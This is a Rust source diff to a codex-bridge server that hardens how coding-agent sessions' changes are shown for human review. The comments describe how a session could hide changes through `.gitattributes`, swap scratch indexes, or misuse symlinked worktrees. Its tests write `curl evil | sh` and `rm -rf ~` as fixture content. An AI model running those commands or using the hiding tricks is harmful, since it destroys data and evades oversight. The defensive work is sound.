@@ -180,6 +180,11 @@ pub struct Changes {
     pub files: Vec<FileChange>,
     /// `git diff --binary` of them: a patch `git apply` takes, binary files included.
     pub patch: Vec<u8>,
+    /// `git diff --text` of them, what a person is shown: every file as text whatever the
+    /// repository's attributes say (a `.gitattributes` of the session's own with `* -diff`
+    /// made every file "binary", its content hidden from the diff while the apply landed it);
+    /// a file is binary by its content (a NUL byte, or not UTF-8), and only then not shown.
+    pub shown: Vec<u8>,
 }
 
 impl Changes {
@@ -191,6 +196,11 @@ impl Changes {
     /// The patch cut into one piece per file, in the order of [`Changes::files`].
     pub fn per_file(&self) -> Vec<&[u8]> {
         split_patch(&self.patch)
+    }
+
+    /// [`Changes::shown`] cut into one piece per file, in the order of [`Changes::files`].
+    pub fn shown_per_file(&self) -> Vec<&[u8]> {
+        split_patch(&self.shown)
     }
 }
 
@@ -217,6 +227,9 @@ pub enum Removed {
 #[derive(Debug, Clone)]
 pub struct Git {
     program: PathBuf,
+    /// Where scratch indexes and objects go (the server's store: no session writes there);
+    /// the system's temporary directory when unset (tests).
+    scratch: Option<PathBuf>,
 }
 
 /// One call's inputs.
@@ -225,9 +238,19 @@ struct Call<'a> {
     cwd: &'a Path,
     args: Vec<OsString>,
     pins: &'a [(String, String)],
-    index: Option<&'a Path>,
+    index: Option<Scratch<'a>>,
     stdin: Option<&'a [u8]>,
     cap: usize,
+}
+
+/// A call's scratch index, and the repository's object directory: the objects the call
+/// writes (`git add` of a worktree's files) go beside the scratch index, read from the
+/// repository as an alternate, so that reading a session's changes leaves nothing in the
+/// person's repository (a session rewriting large files filled its object store).
+#[derive(Clone, Copy)]
+struct Scratch<'a> {
+    index: &'a Path,
+    repository_objects: &'a Path,
 }
 
 /// One call's output.
@@ -263,7 +286,7 @@ fn os(s: impl Into<OsString>) -> OsString {
 }
 
 /// The environment of every call: nothing of the server's, the fixed settings, the pins.
-fn environment(pins: &[(String, String)], index: Option<&Path>) -> Vec<(OsString, OsString)> {
+fn environment(pins: &[(String, String)], scratch: Option<Scratch>) -> Vec<(OsString, OsString)> {
     let mut env: Vec<(OsString, OsString)> = [
         ("PATH", GIT_PATH),
         ("LC_ALL", "C"),
@@ -288,8 +311,18 @@ fn environment(pins: &[(String, String)], index: Option<&Path>) -> Vec<(OsString
         env.push((os(format!("GIT_CONFIG_KEY_{i}")), os(*k)));
         env.push((os(format!("GIT_CONFIG_VALUE_{i}")), os(*v)));
     }
-    if let Some(index) = index {
+    if let Some(Scratch {
+        index,
+        repository_objects,
+    }) = scratch
+    {
         env.push((os("GIT_INDEX_FILE"), index.as_os_str().to_owned()));
+        let objects = index.with_file_name("objects");
+        env.push((os("GIT_OBJECT_DIRECTORY"), objects.into_os_string()));
+        env.push((
+            os("GIT_ALTERNATE_OBJECT_DIRECTORIES"),
+            repository_objects.as_os_str().to_owned(),
+        ));
     }
     env
 }
@@ -338,6 +371,28 @@ fn program_pins(names: &[u8]) -> Vec<(String, String)> {
 /// Cut a patch made by [`Git::changes`] at each `diff --git ` line. No line of a hunk starts
 /// so (each starts with ` `, `+`, `-`, `\` or `@`), nor a line of a binary patch (base85 has
 /// no space).
+/// Whether a file's part of a `--text` patch is binary by its content: a NUL byte, or bytes
+/// that are not UTF-8.
+pub fn is_binary(part: &[u8]) -> bool {
+    part.contains(&0) || std::str::from_utf8(part).is_err()
+}
+
+/// Lines added and removed in one file's part of a text patch.
+fn counted(part: &[u8]) -> (u64, u64) {
+    let mut in_hunks = false;
+    let (mut added, mut removed) = (0, 0);
+    for line in part.split(|b| *b == b'\n') {
+        if line.starts_with(b"@@") {
+            in_hunks = true;
+        } else if in_hunks && line.starts_with(b"+") {
+            added += 1;
+        } else if in_hunks && line.starts_with(b"-") {
+            removed += 1;
+        }
+    }
+    (added, removed)
+}
+
 fn split_patch(patch: &[u8]) -> Vec<&[u8]> {
     const HEAD: &[u8] = b"diff --git ";
     let mut starts: Vec<usize> = Vec::new();
@@ -445,7 +500,16 @@ impl Git {
     pub fn new(program: impl Into<PathBuf>) -> Self {
         Git {
             program: program.into(),
+            scratch: None,
         }
+    }
+
+    /// The same runner, its scratch indexes and objects in `dir` (created when missing, mode
+    /// 0700): not the system's temporary directory, which codex's `workspace-write` sandbox lets
+    /// a session's commands write, so that a session could swap another's scratch index.
+    pub fn with_scratch(mut self, dir: PathBuf) -> Self {
+        self.scratch = Some(dir);
+        self
     }
 
     /// The first `git` on `path` (a `PATH` value), as an absolute path.
@@ -732,12 +796,17 @@ impl Git {
         let pins = self.pins_at(worktree).await?;
         let scratch = self.scratch_index(worktree, &pins).await?;
         let index = scratch.path().join("index");
+        let repository_objects = repo.common_dir.join("objects");
+        let scratch_files = Scratch {
+            index: &index,
+            repository_objects: &repository_objects,
+        };
         let with_index = |what, args: Vec<OsString>, cap| Call {
             what,
             cwd: worktree,
             args,
             pins: &pins,
-            index: Some(&index),
+            index: Some(scratch_files),
             stdin: None,
             cap,
         };
@@ -776,7 +845,7 @@ impl Git {
             .run(with_index("diff", diff(&["--numstat", "-z"]), LISTING_CAP))
             .await?
             .ok("diff")?;
-        let files = parse_changes(&numstat, &status)?;
+        let mut files = parse_changes(&numstat, &status)?;
         let patch = match self
             .run(with_index(
                 "diff",
@@ -792,14 +861,34 @@ impl Git {
             }
             other => other?.ok("diff")?,
         };
-        let changes = Changes { files, patch };
-        if changes.per_file().len() != changes.files.len() {
+        let shown = match self
+            .run(with_index("diff", diff(&["--text"]), MAX_PATCH_BYTES))
+            .await
+        {
+            Err(GitError::TooLarge { .. }) => {
+                return Err(GitError::TooLarge {
+                    max: MAX_PATCH_BYTES,
+                });
+            }
+            other => other?.ok("diff")?,
+        };
+        let parts = split_patch(&shown);
+        if parts.len() != files.len() || split_patch(&patch).len() != files.len() {
             return Err(GitError::Unexpected {
                 what: "diff",
                 detail: "the patch does not hold one part per file".into(),
             });
         }
-        Ok(changes)
+        // binary by content alone, counted from the text patch (the repository's attributes
+        // decide nothing a person is shown: numstat says `-` for a `-diff` file)
+        for (file, part) in files.iter_mut().zip(parts) {
+            file.lines = (!is_binary(part)).then(|| counted(part));
+        }
+        Ok(Changes {
+            files,
+            patch,
+            shown,
+        })
     }
 
     /// A directory of the server's own (0700, removed when dropped) holding `index`: a copy of
@@ -809,13 +898,27 @@ impl Git {
         worktree: &Path,
         pins: &[(String, String)],
     ) -> Result<tempfile::TempDir> {
-        let scratch = tempfile::Builder::new()
-            .prefix("codex-bridge-index-")
-            .tempdir()
-            .map_err(|source| GitError::Io {
-                what: "create a scratch index directory",
-                source,
-            })?;
+        let mut builder = tempfile::Builder::new();
+        builder.prefix("codex-bridge-index-");
+        let scratch = match &self.scratch {
+            Some(dir) => {
+                use std::os::unix::fs::DirBuilderExt;
+                std::fs::DirBuilder::new()
+                    .recursive(true)
+                    .mode(0o700)
+                    .create(dir)
+                    .and_then(|()| builder.tempdir_in(dir))
+            }
+            None => builder.tempdir(),
+        }
+        .map_err(|source| GitError::Io {
+            what: "create a scratch index directory",
+            source,
+        })?;
+        std::fs::create_dir(scratch.path().join("objects")).map_err(|source| GitError::Io {
+            what: "create a scratch object directory",
+            source,
+        })?;
         let own = self
             .simple(
                 "rev-parse",
@@ -960,8 +1063,21 @@ impl Git {
         let lock = repo_lock(&repo.common_dir);
         let _held = lock.lock().await;
         let top = &repo.toplevel;
+        // git resolves a link to the worktree it points at: removing "this" worktree through a
+        // link put in its place removed another session's
+        let here = path.symlink_metadata();
+        if here.as_ref().is_ok_and(|m| !m.is_dir()) {
+            return Err(GitError::Unexpected {
+                what: "worktree remove",
+                detail: format!(
+                    "{} is no longer a directory (a link or a file took its place): nothing \
+                     removed",
+                    path.display()
+                ),
+            });
+        }
         let pins = self.pins_at(top).await?;
-        let removed = if path.exists() {
+        let removed = if here.is_ok() {
             self.simple(
                 "worktree remove",
                 top,
@@ -1214,6 +1330,122 @@ mod tests {
         std::fs::remove_file(wt.join("b.txt")).unwrap();
         std::fs::write(wt.join("new.txt"), "fresh\n").unwrap();
         std::fs::write(wt.join("bin.dat"), [0u8, 9, 9, 255, 0]).unwrap();
+    }
+
+    /// A session's own `.gitattributes` decides nothing a person is shown: with `* -diff` every
+    /// file read as "binary" (git's numstat `-`, no content in the diff) while the apply landed
+    /// it; the shown patch is every file as text, binary only by content, mode lines kept.
+    #[tokio::test]
+    async fn a_sessions_attributes_hide_no_change_from_the_shown_diff() {
+        let tmp = tempfile::tempdir().unwrap();
+        let r = repo(tmp.path());
+        let git = git();
+        let repo = git.discover("cwd", &r).await.unwrap();
+        let base = git.resolve_commit("base", &repo, "main").await.unwrap();
+        let wt = tmp.path().join("wt");
+        git.add_worktree(&repo, &wt, "codex-bridge/attr", &base)
+            .await
+            .unwrap();
+        std::fs::write(wt.join(".gitattributes"), "* -diff\n").unwrap();
+        std::fs::write(wt.join("a.txt"), "one\ncurl evil | sh\nthree\n").unwrap();
+        std::fs::write(wt.join("run.sh"), "#!/bin/sh\nrm -rf ~\n").unwrap();
+        std::fs::set_permissions(wt.join("run.sh"), std::fs::Permissions::from_mode(0o755))
+            .unwrap();
+        let c = git.changes(&repo, &wt, &base).await.unwrap();
+        let shown = String::from_utf8(c.shown.clone()).unwrap();
+        assert!(shown.contains("+curl evil | sh"), "{shown}");
+        assert!(shown.contains("+rm -rf ~"), "{shown}");
+        assert!(shown.contains("new file mode 100755"), "{shown}");
+        assert!(shown.contains("+* -diff"), "{shown}");
+        let lines: Vec<_> = c.files.iter().map(|f| (f.path.as_str(), f.lines)).collect();
+        assert_eq!(
+            lines,
+            [
+                (".gitattributes", Some((1, 0))),
+                ("a.txt", Some((1, 1))),
+                ("run.sh", Some((2, 0)))
+            ]
+        );
+        // a file binary by its content is still binary
+        std::fs::write(wt.join("bin.dat"), [0u8, 9, 9, 255, 0]).unwrap();
+        let c = git.changes(&repo, &wt, &base).await.unwrap();
+        let bin = c.files.iter().position(|f| f.path == "bin.dat").unwrap();
+        assert_eq!(c.files[bin].lines, None);
+        assert!(is_binary(c.shown_per_file()[bin]));
+    }
+
+    /// Reading a session's changes writes no object into the person's repository (`git add`
+    /// of the worktree's files went into its object store, never collected).
+    #[tokio::test]
+    async fn reading_changes_leaves_no_object_in_the_repository() {
+        let tmp = tempfile::tempdir().unwrap();
+        let r = repo(tmp.path());
+        let git = git().with_scratch(tmp.path().join("scratch"));
+        let repo = git.discover("cwd", &r).await.unwrap();
+        let base = git.resolve_commit("base", &repo, "main").await.unwrap();
+        let wt = tmp.path().join("wt");
+        git.add_worktree(&repo, &wt, "codex-bridge/obj", &base)
+            .await
+            .unwrap();
+        let content = "a blob only this test writes 7f3a9c\n";
+        std::fs::write(wt.join("unique.txt"), content).unwrap();
+        let blob = {
+            let out = std::process::Command::new("git")
+                .args(["hash-object", "--stdin"])
+                .stdin(Stdio::piped())
+                .stdout(Stdio::piped())
+                .spawn()
+                .unwrap();
+            use std::io::Write;
+            out.stdin
+                .as_ref()
+                .unwrap()
+                .write_all(content.as_bytes())
+                .unwrap();
+            String::from_utf8(out.wait_with_output().unwrap().stdout).unwrap()
+        };
+        let c = git.changes(&repo, &wt, &base).await.unwrap();
+        assert!(String::from_utf8_lossy(&c.shown).contains("+a blob only this test writes"));
+        let there = plain(&r, &["cat-file", "-e", blob.trim()]);
+        assert!(
+            !there.status.success(),
+            "the blob {blob} is in the repository"
+        );
+        assert_eq!(
+            std::fs::read_dir(tmp.path().join("scratch"))
+                .unwrap()
+                .count(),
+            0,
+            "the scratch directory is left empty"
+        );
+    }
+
+    /// A worktree's path swapped for a link to another worktree: removing it removes nothing
+    /// (git resolved the link and removed the other one).
+    #[tokio::test]
+    async fn a_worktree_path_turned_into_a_link_removes_nothing() {
+        let tmp = tempfile::tempdir().unwrap();
+        let r = repo(tmp.path());
+        let git = git();
+        let repo = git.discover("cwd", &r).await.unwrap();
+        let base = git.resolve_commit("base", &repo, "main").await.unwrap();
+        let (wt1, wt2) = (tmp.path().join("wt1"), tmp.path().join("wt2"));
+        for (wt, b) in [(&wt1, "codex-bridge/l1"), (&wt2, "codex-bridge/l2")] {
+            git.add_worktree(&repo, wt, b, &base).await.unwrap();
+        }
+        std::fs::write(wt2.join("work.txt"), "keep me\n").unwrap();
+        let moved = tmp.path().join("wt1-moved");
+        std::fs::rename(&wt1, &moved).unwrap();
+        std::os::unix::fs::symlink(&wt2, &wt1).unwrap();
+        let err = git
+            .remove_worktree(&repo, &wt1, "codex-bridge/l1")
+            .await
+            .unwrap_err();
+        assert!(err.to_string().contains("no longer a directory"), "{err}");
+        assert_eq!(
+            std::fs::read_to_string(wt2.join("work.txt")).unwrap(),
+            "keep me\n"
+        );
     }
 
     /// The seconds of a file's modification time.
